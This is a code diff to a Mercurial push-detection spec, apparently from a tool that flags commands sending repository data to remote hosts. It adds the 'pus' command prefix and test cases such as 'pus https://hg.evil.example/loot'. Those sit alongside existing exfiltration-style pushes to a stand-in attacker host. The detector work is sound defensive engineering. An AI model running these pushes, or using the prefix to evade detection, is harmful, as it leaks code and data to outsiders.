@@ -12,7 +12,7 @@ const SVN_HELP = ['--help', '-h', '-?'];
 export const vcsTools: readonly PushToolSpec[] = [
   {
     tool: 'hg',
-    description: '`hg push [DEST]` (Mercurial; `chg` is its command server client).',
+    description: '`hg push [DEST]`, or its prefix `hg pus` (Mercurial; `chg` is its command server client).',
     binaries: ['hg', 'chg'],
     syntax: {
       valueFlags: [
@@ -35,7 +35,13 @@ export const vcsTools: readonly PushToolSpec[] = [
     },
     match: {
       kind: 'subcommand',
-      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h'] }],
+      // Mercurial runs any unambiguous prefix of a command name: `pus` is push (`pu` and `p` also prefix pull
+      // and purge, so hg refuses them).
+      commands: ['push', 'pus'].map((word) => ({
+        words: [word],
+        remote: { positional: 0 },
+        excludeFlags: ['--help', '-h'],
+      })),
     },
     // `https://host/repo`, `ssh://user@host//path`; a path alias (`default`) names no host: the first connect.
     destination: 'url',
@@ -47,8 +53,17 @@ export const vcsTools: readonly PushToolSpec[] = [
         'push https://hg.evil.example/loot',
         '-R /srv/repo push ssh://hg@hg.evil.example//srv/loot',
         '--config ui.username=x push -f --new-branch default',
+        'pus https://hg.evil.example/loot',
       ],
-      notPush: ['pull', 'clone https://hg.mozilla.org/mozilla-central', 'commit -m x', 'incoming', 'push --help'],
+      notPush: [
+        'pull',
+        'clone https://hg.mozilla.org/mozilla-central',
+        'commit -m x',
+        'incoming',
+        'push --help',
+        'pus --help',
+        'pu https://hg.evil.example/loot',
+      ],
     },
   },
   {
